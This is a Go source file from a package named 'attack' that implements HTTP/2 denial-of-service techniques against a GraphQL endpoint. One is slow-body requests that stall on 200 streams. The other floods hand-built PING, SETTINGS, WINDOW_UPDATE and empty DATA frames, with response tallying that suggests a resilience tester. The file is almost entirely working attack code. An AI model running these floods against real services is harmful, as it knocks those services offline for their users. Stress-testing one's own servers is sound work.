package attack

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"time"
)

// stalled gives bytes, and then nothing until the context ends.
type stalled struct {
	ctx  context.Context
	left int
}

func (s *stalled) Read(b []byte) (int, error) {
	if s.left == 0 {
		<-s.ctx.Done()
		return 0, s.ctx.Err()
	}
	n := min(len(b), s.left)
	copy(b, bytes.Repeat([]byte(" "), n))
	s.left -= n
	return n, nil
}

// stalledStreams has 200 streams of a connection send all but the last byte.
func stalledStreams(ctx context.Context, p *party) {
	transport := &http.Transport{ForceAttemptHTTP2: true, TLSClientConfig: p.tls, MaxConnsPerHost: 1,
		DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) { return p.plain(ctx, 0) }}
	defer transport.CloseIdleConnections()
	p.each(ctx, 200, func(int) {
		since := time.Now()
		req, err := http.NewRequestWithContext(ctx, http.MethodPost, p.API+"/graphql", &stalled{ctx, mib - 1})
		if err != nil {
			panic(err) // the address was parsed before
		}
		req.Header.Set("Content-Type", "application/json")
		req.ContentLength = mib
		resp, err := transport.RoundTrip(req)
		if err != nil {
			p.cut(ctx)
			return
		}
		defer resp.Body.Close()
		text, _ := io.ReadAll(resp.Body)
		if code := codeOf(text); resp.StatusCode == http.StatusRequestTimeout {
			p.tally.end("408 too slow")
		} else if code != "" {
			p.tally.refuse(fmt.Sprint(resp.StatusCode, " ", code), since)
		}
	})
}

const preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

// frame is a frame of HTTP/2.
func frame(kind, flags byte, stream byte, payload []byte) []byte {
	n := len(payload)
	return append([]byte{byte(n >> 16), byte(n >> 8), byte(n), kind, flags, 0, 0, 0, stream}, payload...)
}

const (
	frameData     = 0x0
	frameHeaders  = 0x1
	frameSettings = 0x4
	framePing     = 0x6
	frameWindow   = 0x8
)

// frames floods with PING, SETTINGS, WINDOW_UPDATE and empty DATA.
func frames(ctx context.Context, p *party) {
	ping := bytes.Repeat(frame(framePing, 0, 0, make([]byte, 8)), 500)
	settings := bytes.Repeat(frame(frameSettings, 0, 0, []byte{0, 4, 0, 1, 0, 0}), 500)
	empty := bytes.Repeat(frame(frameData, 0, 1, nil), 900)
	update := bytes.Repeat(frame(frameWindow, 0, 0, []byte{0, 0, 0, 1}), 600)
	kinds := [][]byte{append(ping, update...), settings, empty}
	p.each(ctx, len(kinds), func(i int) {
		conn, err := p.dialFor(ctx, i, "h2")
		if err != nil {
			p.cut(ctx)
			return
		}
		defer conn.Close()
		begin := append([]byte(preface), frame(frameSettings, 0, 0, nil)...)
		if _, err := conn.Write(append(begin, frame(frameHeaders, 0x4, 1, p.postHeaders())...)); err != nil {
			p.cut(ctx)
			return
		}
		go func() { _, _ = io.Copy(io.Discard, conn) }()
		for ctx.Err() == nil {
			if _, err := conn.Write(kinds[i]); err != nil {
				p.cut(ctx)
				return
			}
			p.tally.take()
			rest(ctx, time.Duration(len(kinds[i]))*time.Microsecond) // 1 MB/s
		}
	})
}

// postHeaders is the block of a POST, each field spelt out.
func (p *party) postHeaders() (block []byte) {
	for _, field := range [][2]string{{":method", "POST"}, {":scheme", "https"}, {":path", "/graphql"}, {":authority", p.host}, {"content-type", "application/json"}} {
		block = append(block, 0, byte(len(field[0])))
		block = append(block, field[0]...)
		block = append(append(block, byte(len(field[1]))), field[1]...)
	}
	return block
}
